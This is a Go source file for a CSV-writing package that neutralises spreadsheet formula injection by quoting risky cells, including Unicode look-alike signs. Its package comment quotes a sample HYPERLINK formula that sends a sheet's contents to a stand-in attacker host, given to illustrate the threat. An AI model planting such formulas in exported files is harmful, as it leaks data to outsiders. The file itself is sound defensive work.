// Package csvsafe writes CSV that is safe to open in a spreadsheet. A cell
// that begins with =, +, -, @, a tab or a carriage return is read by Excel,
// LibreOffice and Google Sheets as a formula, so a survey answer such as
// =HYPERLINK("http://evil.example/?x="&A1,"click") would become a live
// link that sends the sheet's contents away. Following OWASP's advice on
// CSV injection, such a cell is written with a single quote in front,
// which spreadsheets show as text and do not evaluate.
//
// Their fullwidth and small look-alikes (＝HYPERLINK…) are treated the same.
//
// A cell that is just a decimal number ("-1.5", "+3") is left alone: no
// spreadsheet treats it as a formula, and figures should stay numbers.
//
// Every CSV staffnet writes goes through this package. A raw Writer (New
// with raw set) writes cells exactly, for files that programs read back.
package csvsafe

import (
	"encoding/csv"
	"io"
	"unicode/utf8"
)

// Writer is a csv.Writer that neutralises formula cells, unless it is raw.
// Comma and UseCRLF may be set as on a csv.Writer.
type Writer struct {
	*csv.Writer
	raw bool
	buf []string
}

// NewWriter returns a Writer that neutralises formula cells.
func NewWriter(w io.Writer) *Writer { return &Writer{Writer: csv.NewWriter(w)} }

// New returns a Writer that writes every cell exactly as given if raw is
// set, and a neutralising one otherwise.
func New(w io.Writer, raw bool) *Writer { return &Writer{Writer: csv.NewWriter(w), raw: raw} }

// Write writes one record. rec is not modified.
func (w *Writer) Write(rec []string) error {
	if w.raw {
		return w.Writer.Write(rec)
	}
	for i, c := range rec {
		if Risky(c) {
			// Copy only when a cell needs changing: almost none do.
			w.buf = append(w.buf[:0], rec...)
			for j := i; j < len(rec); j++ {
				w.buf[j] = Cell(rec[j])
			}
			return w.Writer.Write(w.buf)
		}
	}
	return w.Writer.Write(rec)
}

// WriteAll writes records and flushes, like csv.Writer's.
func (w *Writer) WriteAll(records [][]string) error {
	for _, rec := range records {
		if err := w.Write(rec); err != nil {
			return err
		}
	}
	w.Flush()
	return w.Error()
}

// Risky reports whether a spreadsheet could read s as a formula.
func Risky(s string) bool {
	if s == "" {
		return false
	}
	switch s[0] {
	case '=', '@', '\t', '\r':
		return true
	case '+', '-':
		return !number(s)
	}
	r, _ := utf8.DecodeRuneInString(s)
	return lookAlike[r]
}

// lookAlike holds the fullwidth and small forms of =, +, - and @. Excel
// with an East Asian input method turns them into the plain signs as a
// cell is typed or edited, so a cell beginning with one may become a
// formula; a quote in front costs nothing.
var lookAlike = map[rune]bool{
	'＝': true, '＋': true, '－': true, '＠': true, // U+FF1D, U+FF0B, U+FF0D, U+FF20
	'﹦': true, '﹢': true, '﹣': true, '﹫': true, // U+FE66, U+FE62, U+FE63, U+FE6B
}

// Cell returns s as it is written for people: with a single quote in
// front if a spreadsheet could read it as a formula.
func Cell(s string) string {
	if Risky(s) {
		return "'" + s
	}
	return s
}

// number reports whether s is a plain decimal number: an optional sign,
// digits, and optionally a point and more digits. Nothing else (no
// exponent, no spaces) so that no formula can pass as one.
func number(s string) bool {
	if s[0] == '+' || s[0] == '-' {
		s = s[1:]
	}
	digits, point := 0, false
	for i := 0; i < len(s); i++ {
		switch c := s[i]; {
		case c >= '0' && c <= '9':
			digits++
		case c == '.' && !point && digits > 0 && i < len(s)-1:
			point = true
		default:
			return false
		}
	}
	return digits > 0
}
